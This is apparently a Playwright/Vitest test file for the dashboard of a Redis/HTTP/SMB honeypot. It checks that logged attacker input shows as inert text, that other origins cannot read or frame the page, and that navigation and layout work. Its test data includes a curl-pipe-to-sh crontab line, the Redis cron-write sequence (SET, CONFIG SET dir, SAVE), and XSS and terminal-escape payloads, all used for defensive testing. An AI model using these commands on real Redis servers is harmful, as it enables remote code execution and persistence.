import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { bytesFromText } from '../src/model/bytes.ts';
import { printableText } from '../src/model/printable.ts';
import { ADD_SCRIPT, EXCESS, GROUND, readFrom, SELECTED_ROW } from './dashboard/in-page.ts';
import { collectTrouble } from './dashboard/page-trouble.ts';
import { sampleAudits, sampleCaptures } from './dashboard/sample-insight.ts';
import { playVisits } from './dashboard/sample-visits.ts';
import type { Stage } from './dashboard/stage.ts';
import { openStage, PAGE_FOLDER } from './dashboard/stage.ts';
import type { RealBrowser } from './peers/browser.ts';
import { startBrowser } from './peers/browser.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const NASTY = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(2)</script>',
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred',
  bytesFromText('\u202etxt.exe\u2066abc\u2069\u200b'),
  '\u0000\u0000nul',
  'javascript:alert(3)//',
  '</span><svg/onload=alert(4)>{{7*7}}${alert(5)}',
];
const DESK: BrowserContextOptions = { viewport: { width: 1280, height: 800 }, colorScheme: 'dark' };
const PHONE: BrowserContextOptions = { viewport: { width: 390, height: 844 }, colorScheme: 'dark' };
const VIEWS = [
  'now',
  'findings',
  'sessions',
  'sources',
  'indicators',
  'campaigns',
  'events',
  'captures',
  'doors',
  'servers',
  'study',
];

let browser: RealBrowser;

beforeAll(async () => {
  if (!existsSync(`${PAGE_FOLDER}/index.html`)) throw new Error('Build the page first: npm run build:ui');
  browser = await startBrowser();
});
afterAll(() => browser.close());

interface Watched {
  readonly page: Page;
  readonly context: BrowserContext;
  /** Dialogs, errors, warnings, refused scripts and requests to elsewhere. */
  readonly trouble: string[];
}

async function openedStage(text?: string): Promise<Stage> {
  const stage = await openStage(Date.now() - 60_000, undefined, 0, {
    captures: () => sampleCaptures(text),
    audits: sampleAudits(text),
  });
  onTestFinished(() => stage.close());
  return stage;
}

async function openPage(stage: Stage, options: BrowserContextOptions = DESK): Promise<Watched> {
  const context = await browser.context(options);
  onTestFinished(() => context.close());
  const page = await context.newPage();
  const trouble = await collectTrouble(page);
  page.on('request', (request) => {
    if (!request.url().startsWith(stage.url)) trouble.push(`request: ${request.url()}`);
  });
  await page.goto(stage.url);
  await page.getByText('live', { exact: true }).waitFor();
  return { page, context, trouble };
}

/** One attacker's visit that ends in a finding. */
async function attack(stage: Stage, address = '203.0.113.5', key = 'backup1'): Promise<string> {
  const visitor = stage.visit(address);
  visitor.does(['INFO']);
  visitor.does(['SET', key, CRON]);
  visitor.does(['CONFIG', 'SET', 'dir', '/var/spool/cron']);
  visitor.does(['SAVE']);
  visitor.leaves();
  await stage.journal.flush();
  return visitor.session;
}

describe('dashboard page', () => {
  test('tells the line to try while nobody has come', async () => {
    const { page, trouble } = await openPage(await openedStage());

    await page.getByText('redis-cli -p 6379').waitFor();

    expect(trouble).toEqual([]);
  });

  test('shows what happens without being loaded again', async () => {
    const stage = await openedStage();
    const { page, trouble } = await openPage(stage);
    let loads = 0;
    page.on('load', () => (loads += 1));

    await attack(stage);
    await page.getByRole('link', { name: 'A value that is a cron job' }).first().waitFor();
    await page.getByLabel('Live events').getByText('backup1').first().waitFor();
    await page.locator('.tile', { hasText: 'Attacks' }).getByText('1', { exact: true }).waitFor();

    expect(loads).toBe(0);
    expect(trouble).toEqual([]);
  });

  test('shows hostile keys, values, names and replies as text, on every view', async () => {
    const stage = await openedStage(NASTY.slice(0, 4).join(''));
    const { page, trouble } = await openPage(stage);
    const visitor = stage.visit('203.0.113.5');
    for (const nasty of NASTY) {
      visitor.does(['CLIENT', 'SETNAME', nasty]);
      visitor.does(['SET', nasty, `${nasty}* * *`]);
      visitor.does(['AUTH', nasty], 1, `ERR ${nasty}`);
      visitor.does([nasty, nasty]);
      visitor.does(['EVAL', nasty, '0']);
      visitor.does(['REPLICAOF', nasty, '1']);
      visitor.emit({ type: 'wire.fault', fault: nasty, looksLike: 'unknown', sample: nasty });
    }
    visitor.does(['CONFIG', 'SET', 'dir', `/${NASTY[0] ?? ''}`]);
    const web = stage.visit('203.0.113.5', 40_001, 'http', 'http');
    for (const nasty of NASTY) {
      web.asks(`/?q=${nasty}`, { method: nasty, headers: [[nasty, nasty]], body: nasty });
      const file = {
        sha256: nasty,
        size: 1,
        kind: 'unknown',
        field: nasty,
        name: nasty,
        mime: nasty,
      } as const;
      web.emit({ type: 'file.offered', via: 'http', ...file, kept: true, fresh: true });
    }
    const smb = stage.visit('203.0.113.5', 40_002, NASTY[0], 'smb');
    for (const nasty of NASTY) {
      smb.emit({ type: 'smb.command', name: nasty, status: nasty, path: nasty, dialects: [nasty], bytes: 0 });
      const who = { user: nasty, domain: nasty, workstation: nasty, nativeOs: nasty, nativeLanMan: nasty };
      smb.emit({ type: 'smb.login', ...who, accepted: true });
    }
    await stage.journal.flush();
    await page.getByLabel('Live events').getByText('javascript:alert(3)//').first().waitFor();
    const elements = 'img, script:not([src*="/assets/"]), iframe, object, embed, svg[onload]';

    const shown: Record<string, string> = {};
    for (const view of [
      ...VIEWS,
      `sessions/${visitor.session}`,
      `sessions/${web.session}`,
      `sessions/${smb.session}`,
      `sources/${encodeURIComponent(NASTY[0] ?? '')}`,
      `servers/${encodeURIComponent(printableText(NASTY.slice(0, 4).join('')))}`,
    ]) {
      await page.goto(`${stage.url}#/${view}`);
      const ready = view.startsWith('sessions/')
        ? '.step'
        : // Its page says a sentence of its own before the list is there.
          view === 'doors'
          ? '.data'
          : ':is(.data, .row, .step, .tile, .reasons, .sentence:not(:text("…")))';
      await page.locator(`main ${ready}`).first().waitFor();
      expect(await page.locator(elements).count()).toBe(0);
      shown[view] = await page.locator('main').innerText();
    }
    const session = shown[`sessions/${visitor.session}`] ?? '';
    expect(shown[`sessions/${web.session}`]).toContain('<img src=x onerror=alert(1)>');
    expect(shown[`sessions/${smb.session}`]).toContain('<img src=x onerror=alert(1)>');
    expect(shown['doors']).toContain('203.0.113.5');

    expect(shown['now']).toContain('<img src=x onerror=alert(1)>');
    expect(shown['servers']).toContain('<img src=x onerror=alert(1)>"><script>alert(2)</script>');
    expect(shown['captures']).toContain('<img src=x onerror=alert(1)>');
    expect(shown['indicators']).toContain('<img src=x onerror=alert(1)>');
    expect(session).toContain('"><script>alert(2)</script>');
    expect(session).toContain('\\x1b]0;owned\\x07\\x1b[2J');
    expect(session).toContain('\\u{202e}txt.exe');
    expect(session).toContain('\\x00\\x00nul');
    for (const text of Object.values(shown))
      expect(text).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e\u2066-\u2069]/);
    expect(trouble).toEqual([]);
  });

  test('lets no script in, even when one gets into the document', async () => {
    const { page } = await openPage(await openedStage());

    const ran = await page.evaluate<string>(ADD_SCRIPT);

    expect(ran).toMatch(/^refused/);
  });

  test('cannot be read, streamed or framed by a page of another origin', async () => {
    const stage = await openedStage();
    await attack(stage);
    const server = createServer((_, answer) =>
      answer.setHeader('content-type', 'text/html').end('<h1>other</h1>'),
    );
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    onTestFinished(() => void server.close());
    const context = await browser.context();
    onTestFinished(() => context.close());
    const page = await context.newPage();
    await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);

    const results = await page.evaluate(readFrom(stage.url));
    const framed = await page
      .frames()[1]
      ?.locator('.brand')
      .count()
      .catch(() => 0);

    expect(results).toEqual({
      read: 'refused',
      blind: 'refused',
      stream: 'refused',
    });
    expect(framed).toBe(0);
  });

  test('leads from a finding to the command that completed it, with why and advice beside it', async () => {
    const stage = await openedStage();
    const session = await attack(stage);
    const { page, trouble } = await openPage(stage);

    await page.getByRole('link', { name: 'A value that is a cron job' }).first().click();
    const step = page.locator('.step', { hasText: 'SET' }).filter({ hasText: 'backup1' });
    await step.getByText('The value has the form of a crontab line').waitFor();

    expect(page.url()).toContain(`#/sessions/${session}`);
    expect(await step.getAttribute('aria-current')).toBe('true');
    expect(await step.innerText()).toContain('Look for the same line in the crontabs');
    expect(await step.getByRole('link', { name: 'T1053.003' }).getAttribute('rel')).toContain('noreferrer');
    expect(await step.locator('.offset').innerText()).toBe('+0.080 s');
    expect(trouble).toEqual([]);
  });

  test('goes on showing a session while it goes on', async () => {
    const stage = await openedStage();
    const visitor = stage.visit('203.0.113.5');
    visitor.does(['PING']);
    await stage.journal.flush();
    const { page } = await openPage(stage);
    await page.goto(`${stage.url}#/sessions/${visitor.session}`);
    await page.getByText('PING').waitFor();

    visitor.does(['SET', 'later', 'value']);
    visitor.leaves();

    await page.locator('.step').getByText('later').first().waitFor();
    await page.locator('.step').getByText('left').waitFor();
    expect(await page.locator('.step').count()).toBe(4);
  });

  test('narrows a list as one types, keeps it in the address, and leads back', async () => {
    const stage = await openedStage();
    await attack(stage, '203.0.113.5');
    await attack(stage, '198.51.100.7');
    const { page } = await openPage(stage);
    await page.goto(`${stage.url}#/sources`);
    await page.getByText('2 found').waitFor();

    await page.keyboard.press('/');
    await page.keyboard.type('198.51');
    await page.getByText('1 found').waitFor();

    expect(page.url()).toContain('contains=198.51');
    await page.reload();
    await page.getByText('1 found').waitFor();
  });

  test('works from the keyboard alone', async () => {
    const stage = await openedStage();
    const sessions = [
      await attack(stage, '203.0.113.5'),
      await attack(stage, '203.0.113.6'),
      await attack(stage, '203.0.113.7'),
    ];
    const { page, trouble } = await openPage(stage);
    const keys = async (...pressed: string[]): Promise<void> => {
      for (const key of pressed) await page.keyboard.press(key);
    };
    const selected = (): Promise<string | null> => page.evaluate(SELECTED_ROW);

    await keys('g', 's');
    await page.locator('tr[data-row]').nth(2).waitFor();
    await keys('j', 'j', 'ArrowDown', 'k');
    expect(await selected()).toBe(sessions[1]);
    await keys('Enter');
    await page.getByRole('heading', { name: /Session of 203\.0\.113\.6/ }).waitFor();
    await keys('Escape');
    await page.getByRole('heading', { name: 'Sessions' }).waitFor();
    await expect.poll(selected).toBe(sessions[1]);
    await keys('?');
    await page.getByRole('dialog', { name: 'Keys' }).waitFor();
    await keys('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    for (const [key, view] of [
      ['i', 'Indicators'],
      ['f', 'Findings'],
      ['o', 'Sources'],
      ['c', 'Campaigns'],
      ['e', 'Events'],
      ['n', 'Now'],
    ] as const) {
      await keys('g', key);
      await page.getByRole('heading', { level: 1, name: view }).waitFor();
    }

    expect(trouble).toEqual([]);
  });

  test('copies an indicator defanged, or as it is', async () => {
    const stage = await openedStage();
    await attack(stage);
    const { page, context } = await openPage(stage);
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stage.url });
    await page.goto(`${stage.url}#/indicators?kind=url`);
    const clipboard = (): Promise<string> => page.evaluate('navigator.clipboard.readText()');

    await page.getByRole('button', { name: /^Copy/ }).first().click();
    await expect.poll(clipboard).toBe('hxxp://203[.]0[.]113[.]9/init[.]sh');
    await page.getByLabel('defanged').uncheck();
    await page.locator('[data-row]').first().focus();
    await page.keyboard.press('y');

    await expect.poll(clipboard).toBe('http://203.0.113.9/init.sh');
  });

  test('says above every view that the journal is in trouble', async () => {
    const stage = await openedStage();
    stage.trouble.trouble = 'The disk is full: free some space.';
    const { page } = await openPage(stage);

    for (const view of VIEWS) {
      await page.goto(`${stage.url}#/${view}`);
      await page.getByRole('heading', { level: 1 }).waitFor();

      expect(await page.getByRole('alert').innerText()).toContain('The disk is full: free some space.');
    }
  });

  test('says that the connection is lost, and catches up when it is back', async () => {
    const stage = await openStage(Date.now() - 60_000);
    const { page } = await openPage(stage);
    const { port } = stage.dashboard;

    await stage.close();
    await page.getByText('Connection to Sundew lost.').waitFor();
    const again = await openStage(Date.now() - 60_000, undefined, port);
    onTestFinished(() => again.close());
    await attack(again);
    await page.getByRole('link', { name: 'A value that is a cron job' }).first().waitFor();

    await page.getByText('live', { exact: true }).waitFor();

    expect(await page.getByText('Connection to Sundew lost.').count()).toBe(0);
  });

  test('follows the colours of the system, and one may choose others', async () => {
    const stage = await openedStage();
    const { page } = await openPage(stage, { ...DESK, colorScheme: 'light' });
    const ground = (): Promise<string> => page.evaluate(GROUND);
    const light = await ground();

    await page.emulateMedia({ colorScheme: 'dark' });
    const dark = await ground();
    await page.keyboard.press('t');
    await page.keyboard.press('t');
    const chosen = await ground();
    await page.reload();

    expect(dark).not.toBe(light);
    expect(chosen).toBe(light);
    expect(await ground()).toBe(light);
  });

  test('leads from the map, a country, a bar of time and a line of the graph to what is behind them', async () => {
    const stage = await openedStage();
    await playVisits(stage, stage.clock.now() + 40_000, 1_000);
    const { page, trouble } = await openPage(stage);
    const shownSources = async (): Promise<string> => page.locator('main').innerText();

    await page.locator('.map a[aria-label^="China"]').click();
    await page.locator('main [data-row]').first().waitFor();
    expect(page.url()).toContain('country=CN');
    expect(await page.locator('td .place').allInnerTexts()).toEqual(
      expect.arrayContaining([expect.stringContaining('CN')]),
    );
    expect(await shownSources()).not.toContain('Example Sul');

    await page.goto(`${stage.url}#/campaigns/test-worm`);
    await page.locator('.graph a').last().click();
    await page
      .getByRole('heading', { name: /indicator/i })
      .or(page.locator('.headline-value'))
      .first()
      .waitFor();
    expect(page.url()).toContain('#/indicators/');

    await page.goto(`${stage.url}#/study`);
    await page.locator('.time-bar').last().click();
    await page.locator('main [data-row]').first().waitFor();
    expect(page.url()).toMatch(/#\/sessions\?.*since=\d+&until=\d+/);
    expect(trouble).toEqual([]);
  });

  test('hides noise, says how much, and shows it when asked', async () => {
    const stage = await openedStage();
    stage.visit('203.0.113.77').does(['PING']);
    await attack(stage);
    const { page } = await openPage(stage);
    await page.goto(`${stage.url}#/sources`);
    await page.locator('main [data-row]').first().waitFor();

    expect(await page.locator('main').innerText()).not.toContain('203.0.113.77');
    await page.getByRole('button', { name: '1 are noise: show' }).click();
    await page.getByText('203.0.113.77').waitFor();
    expect(page.url()).toContain('noise=1');
  });

  test.for([
    { name: '1280 pixels, dark', options: DESK },
    { name: '1280 pixels, light', options: { ...DESK, colorScheme: 'light' as const } },
    { name: '390 pixels', options: PHONE },
  ])('fits $name on every view without scrolling sideways', async ({ options }) => {
    const stage = await openedStage();
    await playVisits(stage, stage.clock.now() + 40_000, 1_000);
    const session = await attack(stage);
    const { page, trouble } = await openPage(stage, options);

    for (const view of [
      ...VIEWS,
      `sessions/${session}`,
      'sources/203.0.113.5',
      'campaigns/test-worm',
      `servers/${encodeURIComponent('redis://192.0.2.10:6379')}`,
    ]) {
      await page.goto(`${stage.url}#/${view}`);
      await page.locator('main :is([data-row], .tile, .reasons)').first().waitFor();
      const excess = await page.evaluate<number>(EXCESS);
      const picture = await page.screenshot();

      expect({ view, excess }).toEqual({ view, excess: 0 });
      expect(picture.length).toBeGreaterThan(10_000);
    }
    expect(trouble).toEqual([]);
  });
});
